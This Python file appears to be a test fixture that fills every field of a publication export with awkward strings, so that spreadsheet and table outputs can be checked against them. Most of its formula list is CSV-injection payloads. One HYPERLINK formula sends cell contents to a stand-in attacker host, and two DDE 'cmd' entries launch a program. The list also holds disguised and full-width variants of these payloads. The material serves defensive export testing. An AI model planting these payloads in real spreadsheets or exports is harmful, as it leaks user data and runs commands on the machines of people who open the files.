"""An edition whose every text is one that spreadsheets, tables or graphs could take for something else."""

from __future__ import annotations

from editions.model import Edition, Publication, Reference, Standard
from editions_builder import domain, edition

# What OWASP names ("CSV Injection"), also after what spreadsheets skip and in other widths.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
OTHERS = (
    "NULL",
    "null",
    "NaN",
    "TRUE",
    "#REF!",
    "1.10",
    "007",
    "1e5",
    "2026-04",
    "'tis quoted'",
    'says "so", and; a | bar \\ slash \\n',
    "two\nlines\n\n\nand more",
    "windows\r\nlines",
    "\U0001f9d1\U0001f3fd\u200d\U0001f692 \U0001f469\u200d\U0001f692",
    "مرحبا بالعالم",
    "\u202egnirts\u202c",
    "_x0041_ and _x000D_",
    "{=A1:A3}",
    "https://example.org/",
    "café \u2028 数据",
)
AWKWARD = (*FORMULAS, *OTHERS)
SITE_URL = "https://awkward.example/"


def awkward_edition() -> Edition:
    """An edition in which each text stands in every place that an export writes."""
    made = [
        domain(
            f"D{number}",
            {
                f"D{number}.1": {
                    "text": text,
                    "title": text,
                    "section": text,
                    "level": text,
                    "keywords": (text, "second; one", text),
                    "references": (
                        Reference(text, text, text, "https://example.org/{a}|b"),
                        Reference(text, f"{text} second"),
                    ),
                }
            },
            title=text,
            label=text,
            summary=text,
            assessed_in=(text,),
        )
        for number, text in enumerate(AWKWARD, 1)
    ]
    return edition("1.10", made, title=FORMULAS[0], summary=FORMULAS[1], keywords=FORMULAS)


def awkward_publication() -> Publication:
    """The publication of that edition alone."""
    return Publication(SITE_URL, Standard((awkward_edition(),)))
